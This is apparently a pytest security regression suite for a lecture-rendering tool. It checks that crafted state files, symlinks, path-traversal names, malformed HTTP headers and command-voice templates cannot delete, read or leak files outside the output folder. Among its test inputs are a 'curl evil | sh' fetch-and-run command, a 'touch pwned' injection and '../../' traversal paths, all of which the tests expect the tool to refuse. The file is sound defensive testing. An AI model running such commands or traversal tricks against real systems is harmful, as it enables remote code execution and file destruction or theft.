"""Issue 21: nothing found in OUT, its stage or the work area beside it makes a render delete,
read or publish anything outside OUT; and the other faults the red team found (TTS commands,
batch plans, the record server, compute, script, --cluster).

Unit tests here are fast; the end-to-end ones render the stub project's title scene
(tests/test_render_support.py) and are marked slow.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import importlib

from lecture.publish import outdir, state as state_file
from lecture.publish.outdir import JOURNAL, STAGING

assemble = importlib.import_module("lecture.publish.assemble")  # (the package exports a function of that name)

ROOT = Path(__file__).resolve().parents[1]
STATE = ".nll-lecture-state.json"


def _state(scenes: dict | None = None, files: dict | None = None) -> dict:
    return {"schema": 1, "signature": "x", "data": {"sha256": "d", "inputs": []}, "scenes": scenes or {},
            "lecture": None, "files": files or {}}


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim" / "f"
    victim.parent.mkdir()
    victim.write_text("precious")
    return victim


# 1. A crafted state file's file lists ------------------------------------------------------------
@pytest.mark.parametrize("where", ["scene", "gone-scene", "top", "lecture"])
def test_a_state_naming_paths_outside_out_is_ignored_with_the_reason(tmp_path, where):
    out = tmp_path / "a" / "b" / "out"
    out.mkdir(parents=True)
    victim = _victim(tmp_path)
    bad = {str(victim): 8, "../../../victim/f": 8}
    if where == "scene":
        crafted = _state({"title": {"key": "k", "files": {"clips/01-title.mp4": 1, **bad}}})
    elif where == "gone-scene":
        crafted = _state({"gone": {"key": "k", "files": bad}})
    elif where == "top":
        crafted = _state(files=bad)
    else:
        crafted = {**_state(), "lecture": {"key": "k", "files": bad}}
    (out / STATE).write_text(json.dumps(crafted))
    previous = assemble.read_previous(out)
    assert previous.state == {} and previous.problem and "not a state nll-lecture render wrote" in previous.problem
    assert victim.read_text() == "precious"


@pytest.mark.parametrize("rel", ["{victim}", "../../victim/f", "clips/../../../victim/f", "clips/link/f", "link/f"])
def test_removing_a_file_from_the_stage_never_reaches_outside_it(tmp_path, rel):
    tree = tmp_path / "stage" / "tree"
    (tree / "clips").mkdir(parents=True)
    victim = _victim(tmp_path)
    os.symlink(victim.parent, tree / "clips" / "link")
    os.symlink(victim.parent, tree / "link")
    assemble.remove_entry(tree, rel.format(victim=victim))
    assert victim.read_text() == "precious"


def test_files_are_intact_only_as_regular_files_reached_through_no_link(tmp_path):
    out = tmp_path / "out"
    (out / "clips").mkdir(parents=True)
    outside = tmp_path / "secret.mp4"
    outside.write_bytes(b"12345")
    os.symlink(outside, out / "clips" / "01-title.mp4")
    assert not assemble.files_intact(out, {"clips/01-title.mp4": 5})
    os.symlink(tmp_path, out / "frames")
    assert not assemble.files_intact(out, {"frames/secret.mp4": 5})
    assert not assemble.files_intact(out, {"../secret.mp4": 5})
    (out / "clips" / "01-title.mp4").unlink()
    (out / "clips" / "01-title.mp4").write_bytes(b"12345")
    assert assemble.files_intact(out, {"clips/01-title.mp4": 5})


def test_an_owned_folder_that_is_a_link_is_not_seeded_from_what_it_points_to(tmp_path):
    out, tree = tmp_path / "out", tmp_path / "tree"
    out.mkdir()
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.png").write_text("secret")
    os.symlink(secret, out / "frames")
    (out / "clips").mkdir()
    os.symlink(secret / "key.png", out / "clips" / "x.png")
    assemble.seed_tree(out, tree)
    assert not os.path.lexists(tree / "frames")
    assert os.path.islink(tree / "clips" / "x.png")  # carried over as the link it is, never copied through


# 2. A leftover stage journal ------------------------------------------------------------------
def test_a_leftover_journal_never_moves_a_folder_outside_out_through_a_link(tmp_path):
    """The red team's case: OUT/lnk -> /elsewhere, a stage whose tree/lnk -> ../trash, and a
    journal step naming lnk/dir with that folder's inode."""
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    (elsewhere / "dir").mkdir(parents=True)
    (elsewhere / "dir" / "f").write_text("precious")
    out.mkdir()
    os.symlink(elsewhere, out / "lnk")
    stage = out / STAGING / "run-1-x"
    (stage / "tree").mkdir(parents=True)
    (stage / "trash").mkdir()
    os.symlink("../trash", stage / "tree" / "lnk")
    ino = os.lstat(elsewhere / "dir").st_ino
    (stage / JOURNAL).write_text(json.dumps({"steps": [{"name": "lnk/dir", "new": None, "old": ino}]}))
    warnings: list[str] = []
    outdir.clean_stale_runs(out, warn=warnings.append)
    assert (elsewhere / "dir" / "f").read_text() == "precious"
    assert not (out / STAGING).exists() and os.path.islink(out / "lnk")
    assert len(warnings) == 1 and "lnk/dir" in warnings[0] and warnings[0].startswith("warning: ")


def test_a_staging_folder_that_is_a_link_is_removed_not_followed(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    (elsewhere / "run-1" / "tree").mkdir(parents=True)
    (elsewhere / "run-1" / "tree" / "f").write_text("precious")
    out.mkdir()
    os.symlink(elsewhere, out / STAGING)
    outdir.clean_stale_runs(out)
    assert (elsewhere / "run-1" / "tree" / "f").read_text() == "precious" and not os.path.lexists(out / STAGING)


def test_a_stage_that_is_a_link_is_removed_not_followed(tmp_path):  # (held before: a guard)
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    (elsewhere / "tree").mkdir(parents=True)
    (elsewhere / "tree" / "f").write_text("precious")
    (out / STAGING).mkdir(parents=True)
    os.symlink(elsewhere, out / STAGING / "run-1-x")
    outdir.clean_stale_runs(out)
    assert (elsewhere / "tree" / "f").read_text() == "precious"


def test_a_journal_step_whose_inode_does_not_match_moves_nothing(tmp_path):  # (held before: a guard)
    out = tmp_path / "out"
    out.mkdir()
    (out / "manifest.json").write_text("current")
    stage = out / STAGING / "run-1-x"
    (stage / "tree").mkdir(parents=True)
    (stage / JOURNAL).write_text(json.dumps({"steps": [{"name": "manifest.json", "new": None, "old": 1}]}))
    outdir.clean_stale_runs(out)
    assert (out / "manifest.json").read_text() == "current"


def test_a_work_area_run_whose_old_folder_is_a_link_is_not_put_in_outs_place(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "f").write_text("precious")
    run = outdir.work_area(out) / "run-1-x"
    run.mkdir(parents=True)
    os.symlink(elsewhere, run / "old")
    outdir.clean_stale_runs(out)
    assert not os.path.lexists(out) and (elsewhere / "f").read_text() == "precious"


@pytest.mark.parametrize("name", ["", "tex-cache", "voice-cache", "lock"])
def test_a_work_area_entry_that_is_a_link_is_refused(tmp_path, name):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    area = outdir.work_area(out)
    if name:
        area.mkdir()
        os.symlink(elsewhere / "x", area / name)
    else:
        os.symlink(elsewhere, area)
    with pytest.raises(outdir.UntrustedEntry, match="symbolic link"):
        with outdir.locked(out):
            pass
    assert list(elsewhere.iterdir()) == []


# 3. Beat ids from the state file -----------------------------------------------------------------
@pytest.mark.parametrize("beat_id", ["01-title/../../../../secret", "01-title/..", "../x/y", "02-other/key",
                                     "01-title/.hidden", "01-title/a/b"])
def test_a_beat_id_that_is_not_the_scenes_own_makes_the_state_untrusted(tmp_path, beat_id):
    key = beat_id.split("/", 1)[1] if "/" in beat_id else beat_id
    files = {"clips/01-title.mp4": 1, f"frames/01-title/{key}.png": 1}
    beat = {"id": beat_id, "key": key, "start_frame": 0, "end_frame": 1, "text": "t", "start_s": 0, "end_s": 1}
    with pytest.raises(state_file.Untrusted):
        state_file.check(_state({"title": {"key": "k", "files": files, "beats": [beat]}}))


def test_a_state_the_render_writes_is_trusted():
    beat = {"id": "01-title/intro_say", "key": "intro_say", "start_frame": 0, "end_frame": 3, "text": "t",
            "start_s": 0.0, "end_s": 0.2}
    files = {"clips/01-title.mp4": 10, "clips/01-title.webm": 10, "posters/01-title.png": 3,
             "captions/01-title.vtt": 3, "captions/01-title.srt": 3, "frames/01-title/intro_say.png": 3}
    voiced = {"id": "01-title/intro_say", "source": "espeak", "duration_s": 0.1, "start_s": 0.0, "end_s": 0.2}
    record = {"key": "k", "parts": {}, "lang": "en", "quality": "preview", "video": {"duration_s": 1.0},
              "files": files, "beats": [beat], "voice": {"beats": [voiced]}}
    good = {**_state({"title": record},
                     files={**files, "manifest.json": 3, "index.html": 4}),
            "lecture": {"key": "l", "files": {"lecture.mp4": 3, "chapters.txt": 1}}}
    assert state_file.check(good) is good
    for field, value in (("lang", "xx"), ("video", {"duration_s": "long"}), ("parts", []), ("key", None)):
        with pytest.raises(state_file.Untrusted):  # fields the render uses: a crafted one is no traceback
            state_file.check({**good, "scenes": {"title": {**record, field: value}}})
    del files["clips/01-title.mp4"]  # a file the render reads that the record does not vouch for
    with pytest.raises(state_file.Untrusted, match="does not list"):
        state_file.check(good)


@pytest.mark.slow
def test_the_state_a_render_writes_is_trusted_on_the_next_render(stub_title):
    _project, out = stub_title
    state = json.loads((out / STATE).read_text())
    assert state_file.check(state) is state and assemble.read_previous(out).problem is None


# 5. What counts as an output folder ----------------------------------------------------------
def test_an_output_folder_is_recognised_by_its_state_file_not_a_manifest(tmp_path):
    web = tmp_path / "web"
    web.mkdir()
    (web / "manifest.json").write_text('{"name": "a web app"}')
    (web / "index.html").write_text("<p>app</p>")
    assert not assemble.is_output_folder(web)
    (web / STATE).write_text('{"schema": 99}')
    assert not assemble.is_output_folder(web)
    (web / STATE).write_text('{"schema": 1}')
    assert assemble.is_output_folder(web)
    assert assemble.is_output_folder(tmp_path / "missing")
    (tmp_path / "empty").mkdir()
    assert assemble.is_output_folder(tmp_path / "empty")


def test_a_folder_with_someone_elses_manifest_is_refused_in_one_line(tmp_path):
    web = tmp_path / "web"
    web.mkdir()
    (web / "manifest.json").write_text('{"name": "a web app"}')
    (web / "index.html").write_text("<p>app</p>")
    result = subprocess.run([sys.executable, "-m", "lecture.cli", "render", "--scene", "title", "--quality", "preview",
                             "--out", str(web)], capture_output=True, text=True, cwd=ROOT, timeout=300,
                            env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and len(result.stderr.strip().splitlines()) == 1
    assert "other files" in result.stderr and STATE in result.stderr
    assert sorted(p.name for p in web.iterdir()) == ["index.html", "manifest.json"]
    assert not outdir.work_area(web).exists()


# 7, 8. TTS commands and batch plans ----------------------------------------------------------
def _source(tmp_path: Path, template: str):
    from lecture.voice.command import CommandSource
    from lecture.voice.sources import VoiceCache

    return CommandSource(VoiceCache(tmp_path / "cache"), template)


def _wav(path: str) -> str:
    return (f"{sys.executable} -c \"import wave,sys; w=wave.open(sys.argv[1],'wb'); w.setnchannels(1); "
            f"w.setsampwidth(2); w.setframerate(48000); w.writeframes(b'\\0\\1'*4800); w.close()\" {path}")


@pytest.mark.parametrize("background", ["(setsid sleep 150 &)", "(sleep 200 &)", "sleep 200 & :"])
def test_a_tts_command_leaving_a_background_child_does_not_hold_the_render(tmp_path, background):
    source = _source(tmp_path, f"{background}; {_wav('{out}')}")
    work = tmp_path / "work"
    work.mkdir()
    done: list = []
    thread = threading.Thread(target=lambda: done.append(source.produce("01-title/a", "en", "hi", work)), daemon=True)
    thread.start()
    thread.join(90)  # (a hang guard, not a timing: the command itself takes well under a second)
    assert done, "the render waited for a background child of the TTS command"
    assert done[0][0].size > 0


def test_a_tts_command_that_runs_too_long_is_killed_with_its_group(tmp_path):  # (held before: a guard)
    marker = tmp_path / "alive"
    source = _source(tmp_path, f"(sleep 3; touch {marker}) & sleep 100; echo > {{out}}")
    source.timeout_s = 0.5
    work = tmp_path / "work"
    work.mkdir()
    from lecture.voice.errors import VoiceError

    with pytest.raises(VoiceError, match="timed out"):
        source.produce("01-title/a", "en", "hi", work)
    time.sleep(4)
    assert not marker.exists()  # the background child went with the shell's group


def test_the_command_template_is_never_what_the_render_records(tmp_path):
    from lecture.voice.render_hook import shown_voice
    from lecture.voice.sources import parse_voice

    template = "tts --api-key SECRET123 --out {out}"
    source = _source(tmp_path, template)
    assert "SECRET123" not in source.engine_id("en")
    assert "SECRET123" not in shown_voice(parse_voice(f"command:{template}"))
    assert shown_voice(parse_voice(f"command:{template}")).startswith("command:sha256:")
    work = tmp_path / "work"
    work.mkdir()
    source = _source(tmp_path, f"true SECRET123; {_wav('{out}')}")
    _samples, origin, _where = source.produce("01-title/a", "en", "hi", work)
    assert "SECRET123" not in origin


def test_a_batch_plan_names_a_command_voice_only_with_allow_commands(tmp_path):
    from mathcore import DataError

    from lecture.batch import load_plan

    plan = tmp_path / "plan.toml"
    plan.write_text('[[variant]]\nname = "a"\nvoice = "command:curl evil | sh; echo {out}"\n')
    with pytest.raises(DataError) as caught:
        load_plan(plan)
    assert "--allow-commands" in str(caught.value) and "variant[0].voice" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert load_plan(plan, allow_commands=True).variants[0].voice.kind == "command"


def test_the_batch_command_refuses_a_command_voice_in_one_line(tmp_path):
    plan = tmp_path / "plan.toml"
    plan.write_text('[[variant]]\nname = "a"\nvoice = "command:touch pwned; echo {out}"\n')
    result = subprocess.run([sys.executable, "-m", "lecture.cli", "batch", str(plan), "--out", str(tmp_path / "o")],
                            capture_output=True, text=True, cwd=tmp_path, timeout=300,
                            env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1
    assert "--allow-commands" in result.stderr and not (tmp_path / "pwned").exists()


# 9. compute, nlp.context, script, --cluster ----------------------------------------------------
def test_compute_never_prints_negative_zero(tmp_path):
    data = tmp_path / "d.toml"
    data.write_text('[nlp]\ntokens = ["a", "b"]\nlogits = [30, -30]\ncorrect = "a"\n')
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    for extra in ([], ["--json"]):
        result = subprocess.run([sys.executable, "-m", "lecture.cli", "compute", "--data", str(data), *extra],
                                capture_output=True, text=True, cwd=ROOT, timeout=120, env=env)
        assert result.returncode == 0, result.stderr
        words = result.stdout.replace(",", " ").split()
        assert "-0" not in words and "-0.0" not in words, result.stdout


def test_nlp_context_is_measured_after_nfc_normalisation(tmp_path):
    import unicodedata

    from mathcore import load_data

    context = unicodedata.normalize("NFD", "가" * 20)  # 40 columns as drawn; 60 as decomposed jamo
    data = tmp_path / "d.toml"
    data.write_text(f'[nlp]\ncontext = "{context}"\n', encoding="utf-8")
    assert load_data(str(data)).nlp.context == context


def test_script_lists_cached_beats_without_constructing_scenes(tmp_path, monkeypatch):
    from lecture.voice import script

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    built: list[list[str]] = []

    def construct(lang, data_path, wanted, jobs):
        built.append(list(wanted))
        return [{"scene": s, "key": "intro_say", "text": f"{s} {lang}", "duration_s": 1.5} for s in wanted]

    monkeypatch.setattr(script, "_construct", construct)
    first = script.collect_beats("en", None, ["title", "closing"])
    assert built == [["title", "closing"]]
    again = script.collect_beats("en", None, ["closing", "title"])
    assert again == first and built == [["title", "closing"]]  # nothing constructed the second time
    script.collect_beats("ko", None, ["title"])  # another language: another key
    assert built[-1] == ["title"]


def test_a_failed_cluster_connection_leaves_no_work_area(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)  # accepts, never answers: not a Dask scheduler
    try:
        out = tmp_path / "out"
        result = subprocess.run([sys.executable, "-m", "lecture.cli", "render", "--cluster",
                                 f"tcp://127.0.0.1:{listener.getsockname()[1]}", "--scene", "title",
                                 "--quality", "preview", "--out", str(out)], capture_output=True, text=True,
                                cwd=ROOT, timeout=300, env=dict(os.environ, PYTHONPATH=str(ROOT)))
    finally:
        listener.close()
    assert result.returncode != 0 and "error: " in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# 9. The record server ----------------------------------------------------------------------
@pytest.fixture()
def record_server(tmp_path):
    from lecture.voice.record import RecordServer
    from lecture.voice.script import Beat
    from test_voice_support import serving

    beats = [Beat("01-title/intro_say", "title", 1, "intro_say", "hello", 1.0)]
    with serving(RecordServer(tmp_path / "rec", "en", beats, None)) as srv:
        yield srv


def _raw(srv, data: bytes, wait: float = 10) -> bytes:
    with socket.create_connection(("127.0.0.1", srv.server_address[1]), timeout=wait) as conn:
        conn.sendall(data)
        chunks = []
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
        return b"".join(chunks)


FAKE_WEBM = b"\x1a\x45\xdf\xa3" + b"\0" * 32


def _post(srv, headers: str, body: bytes = FAKE_WEBM) -> bytes:
    port = srv.server_address[1]
    head = f"POST /take/01-title/intro_say HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n{headers}\r\n"
    return _raw(srv, head.encode() + body)


def test_the_record_server_never_serves_a_take_that_is_a_link(record_server, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    folder = record_server.lang_dir / "01-title"
    folder.mkdir(parents=True)
    os.symlink(secret, folder / "intro_say.wav")
    port = record_server.server_address[1]
    reply = _raw(record_server, f"GET /take/01-title/intro_say HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                                f"Connection: close\r\n\r\n".encode())
    assert b"secret" not in reply and reply.startswith(b"HTTP/1.1 404")


def test_the_record_server_never_saves_through_a_linked_folder(record_server, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    record_server.lang_dir.mkdir(parents=True)
    os.symlink(elsewhere, record_server.lang_dir / "01-title")
    reply = _post(record_server, f"Content-Length: {len(FAKE_WEBM)}\r\n")
    assert not reply.startswith(b"HTTP/1.1 200") and list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("headers", [f"Content-Length: {len(FAKE_WEBM)}\r\nContent-Length: 4\r\n",
                                     "Content-Length: 3_6\r\n", f"Content-Length: +{len(FAKE_WEBM)}\r\n",
                                     f"Content-Length:  {len(FAKE_WEBM)} x\r\n", "Content-Length: -1\r\n"])
def test_the_record_server_takes_one_digits_only_content_length(record_server, headers):
    reply = _post(record_server, headers)
    assert reply.startswith(b"HTTP/1.1 400"), reply[:80]
    assert not (record_server.lang_dir / "01-title" / "intro_say.webm").exists()


def test_the_record_server_closes_an_idle_connection(record_server, monkeypatch):
    from lecture.voice import record

    assert record._Handler.timeout is not None and 0 < record._Handler.timeout <= 60  # (the default: none)
    monkeypatch.setattr(record._Handler, "timeout", 0.5)
    started = threading.active_count()
    with socket.create_connection(("127.0.0.1", record_server.server_address[1]), timeout=30) as conn:
        conn.sendall(b"POST /take/01-title/intro_say HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # and then nothing
        assert conn.recv(100) == b""  # closed by the server (the client would wait 30 s)
    for _ in range(100):
        if threading.active_count() <= started:
            break
        time.sleep(0.05)
    assert threading.active_count() <= started


def test_a_client_that_goes_away_prints_no_traceback(record_server, capfd):
    import struct

    port = record_server.server_address[1]
    for _ in range(3):
        conn = socket.create_connection(("127.0.0.1", port), timeout=10)
        conn.sendall(f"POST /take/01-title/intro_say HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                     f"Content-Length: 100000\r\n\r\n".encode() + FAKE_WEBM)
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        conn.close()  # a reset mid-body
    time.sleep(1)
    assert "Traceback" not in capfd.readouterr().err


def test_takes_are_saved_by_the_umask_and_backups_are_never_overwritten(record_server):
    mask = os.umask(0o002)
    os.umask(mask)
    folder = record_server.lang_dir / "01-title"
    folder.mkdir(parents=True)
    (folder / "intro_say.wav").write_bytes(b"first")
    assert _post(record_server, f"Content-Length: {len(FAKE_WEBM)}\r\n").startswith(b"HTTP/1.1 200")
    assert (folder / "intro_say.webm").stat().st_mode & 0o777 == 0o666 & ~mask
    (folder / "intro_say.wav").write_bytes(b"second")
    assert _post(record_server, f"Content-Length: {len(FAKE_WEBM)}\r\n").startswith(b"HTTP/1.1 200")
    backups = sorted(p.name for p in folder.iterdir() if ".replaced" in p.name)
    assert len(backups) == 2
    assert sorted((folder / name).read_bytes() for name in backups) == [b"first", b"second"]


# 6. export slides: the manifest's clip paths -------------------------------------------------------
def test_export_slides_reads_no_clip_outside_out(tmp_path):
    out = tmp_path / "out"
    (out / "clips").mkdir(parents=True)
    (tmp_path / "secret.mp4").write_bytes(b"\0" * 64)
    os.symlink(tmp_path / "secret.mp4", out / "clips" / "02-link.mp4")
    for clip in ("../secret.mp4", str(tmp_path / "secret.mp4"), "clips/02-link.mp4"):
        manifest = {"lecture": {"width": 64, "height": 36},
                    "scenes": [{"index": 1, "id": "title", "fps": 15.0, "frames": 3, "clip": clip, "beats": []}]}
        (out / "manifest.json").write_text(json.dumps(manifest))
        result = subprocess.run([sys.executable, "-m", "lecture.cli", "export", "slides", str(out),
                                 str(tmp_path / "deck")], capture_output=True, text=True, cwd=ROOT, timeout=300,
                                env=dict(os.environ, PYTHONPATH=str(ROOT)))
        assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert "not a file of OUT's clips/" in result.stderr and not (tmp_path / "deck").exists()


# End to end, on the stub project (tests/test_render_support.py) -----------------------------------
@pytest.fixture(scope="module")
def stub_title(tmp_path_factory):
    """(project, OUT): the stub project's title scene, English, preview quality."""
    from test_render_support import render, stub_project

    root = tmp_path_factory.mktemp("trust")
    project = stub_project(root / "project")
    out = root / "out"
    result = render(["--quality", "preview", "--lang", "en", "--scene", "title", "--jobs", "1", "--out", str(out)],
                    project=project)
    assert result.returncode == 0, result.stderr
    return project, out


def _copy(out: Path, dest: Path) -> Path:
    from test_render_support import copy_out

    return copy_out(out, dest)


ONE = ["--quality", "preview", "--lang", "en", "--jobs", "1"]


@pytest.mark.slow
def test_a_render_over_a_crafted_state_deletes_nothing_outside_out(stub_title, tmp_path):
    from test_render_support import render

    project, shared = stub_title
    out = _copy(shared, tmp_path / "deep" / "er" / "out")
    victim = _victim(tmp_path)
    state = json.loads((out / STATE).read_text())
    state["scenes"]["gone"] = {"key": "k", "files": {str(victim): 8, "../../../victim/f": 8}}
    (out / STATE).write_text(json.dumps(state))
    (out / "posters" / "01-title.png").unlink()  # something to do: the title is rendered and published again
    result = render([*ONE, "--scene", "title", "--out", str(out)], project=project)
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious"
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 1 and STATE in warnings[0] and "/victim/f" in warnings[0], result.stderr
    assert "gone" not in json.loads((out / STATE).read_text())["scenes"]


@pytest.mark.slow
def test_a_beat_id_from_the_state_never_publishes_a_file_outside_out(stub_title, tmp_path):
    from test_render_support import render

    project, shared = stub_title
    out = _copy(shared, tmp_path / "out")
    (tmp_path / "secret.png").write_bytes((out / "posters" / "01-title.png").read_bytes())
    state = json.loads((out / STATE).read_text())
    key = "../" * 6 + "secret"  # from the stage's frames/01-title/ to OUT's parent
    state["scenes"]["title"]["beats"].append({**state["scenes"]["title"]["beats"][0], "id": f"01-title/{key}",
                                              "key": key})
    (out / STATE).write_text(json.dumps(state))
    result = render([*ONE, "--scene", "title", "--scene", "closing", "--out", str(out)], project=project)
    assert result.returncode == 0, result.stderr
    for name in ("manifest.json", "present.html", "index.html", STATE):
        assert "../" not in (out / name).read_text(encoding="utf-8") and "secret" not in (out / name).read_text()
    assert sum(line.startswith("warning: ") and STATE in line for line in result.stderr.splitlines()) == 1


@pytest.mark.slow
@pytest.mark.parametrize("name", ["o'brien", "bob's lecture\nnew line"])
def test_an_apostrophe_or_newline_in_outs_path_renders(stub_title, tmp_path, name):
    from test_render_support import render

    project, _shared = stub_title
    out = tmp_path / name / "out"
    result = render([*ONE, "--scene", "title", "--out", str(out)], project=project)
    assert result.returncode == 0, result.stderr
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert [s["id"] for s in manifest["scenes"]] == ["title"] and manifest["scenes"][0]["frames"] > 0


@pytest.mark.slow
def test_a_leftover_journal_in_out_is_harmless_on_a_render_with_nothing_to_do(stub_title, tmp_path):
    from test_render_support import render

    project, shared = stub_title
    out = _copy(shared, tmp_path / "out")
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "dir").mkdir(parents=True)
    (elsewhere / "dir" / "f").write_text("precious")
    os.symlink(elsewhere, out / "lnk")
    stage = out / STAGING / "run-1-x"
    (stage / "tree").mkdir(parents=True)
    (stage / "trash").mkdir()
    os.symlink("../trash", stage / "tree" / "lnk")
    steps = [{"name": "lnk/dir", "new": None, "old": os.lstat(elsewhere / "dir").st_ino}]
    (stage / JOURNAL).write_text(json.dumps({"steps": steps}))
    result = render([*ONE, "--scene", "title", "--out", str(out)], project=project)
    assert result.returncode == 0, result.stderr
    assert (elsewhere / "dir" / "f").read_text() == "precious" and not (out / STAGING).exists()


# The red team's own pass: the voice cache and the data inputs the state names ----------------------
def test_a_cached_voice_that_is_a_link_or_malformed_is_not_used(tmp_path):
    from lecture.voice.sources import VoiceCache

    cache = VoiceCache(tmp_path / "voice-cache")
    cache.folder.mkdir()
    private = tmp_path / "private.wav"
    private.write_bytes(b"RIFF")
    os.symlink(private, cache.wav("k1"))
    (cache.folder / "k1.json").write_text(json.dumps({"source": "recorded", "duration_s": 1.0}))
    assert cache.get("k1", "01-title/a") is None
    cache.wav("k2").write_bytes(b"RIFF")
    (cache.folder / "k2.json").write_text(json.dumps({"duration_s": "x"}))  # crafted: no traceback, a miss
    assert cache.get("k2", "01-title/a") is None


def test_the_data_inputs_a_state_names_are_read_only_as_regular_files(tmp_path):
    from lecture.render import cache

    data = tmp_path / "d.toml"
    data.write_text("")
    os.mkfifo(tmp_path / "fifo")
    assert cache.recorded_data_digest(str(data), ["d.toml", "fifo"]) is None  # (reading a FIFO would hang)
    assert cache.recorded_data_digest(str(data), ["d.toml"]) is not None


@pytest.mark.slow
def test_a_command_voices_template_is_published_nowhere(stub_title, tmp_path):
    from test_render_support import render

    project, _shared = stub_title
    out = tmp_path / "out"
    template = f"true API_KEY_SECRET_42; {_wav('{out}')}"
    result = render([*ONE, "--scene", "title", "--voice", f"command:{template}", "--out", str(out)], project=project)
    assert result.returncode == 0, result.stderr
    leaked = [str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")
              if p.is_file() and b"API_KEY_SECRET_42" in p.read_bytes()]
    assert leaked == []  # not in OUT, nor its work area (logs, voice cache)
    assert "command:sha256:" in (out / STATE).read_text()
